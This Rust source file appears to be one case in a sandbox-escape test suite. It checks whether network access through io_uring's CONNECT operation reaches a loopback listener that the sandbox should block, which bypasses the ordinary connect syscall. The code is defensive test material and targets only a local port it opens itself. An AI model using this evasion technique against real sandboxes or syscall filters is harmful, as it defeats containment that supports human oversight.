//! S6: connects to a host listener without a connect call.

use std::io;
use std::net::TcpListener;

use super::ring::{CONNECT, Ring};
use crate::attack::{Attack, Judge};
use crate::attacks::kernel::{Word, small, sys};
use crate::attacks::proof;
use crate::judges;
use crate::stage::Stage;

pub(super) const ROW: Attack = Attack {
    id: "S6",
    name: "io-uring-connect",
    what: "reaches a host port through io_uring",
    prepare,
    attack,
    ..Attack::ROW
};

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    stage.arg(listener.local_addr()?.port());
    judges::tcp_unreached(listener)
}

fn attack(args: &[String]) -> io::Result<()> {
    let port: u16 = proof::number(args, 0)?;
    let fd = small(sys!(SYS_socket, libc::AF_INET, libc::SOCK_STREAM, 0)?)?;
    let mut address = [0u8; 16];
    address[..2].copy_from_slice(&2u16.to_ne_bytes());
    address[2..4].copy_from_slice(&port.to_be_bytes());
    address[4..8].copy_from_slice(&[127, 0, 0, 1]);
    Ring::new()?.run(CONNECT, fd, address.as_ptr().word(), 0, 16).map(|_| ())
}
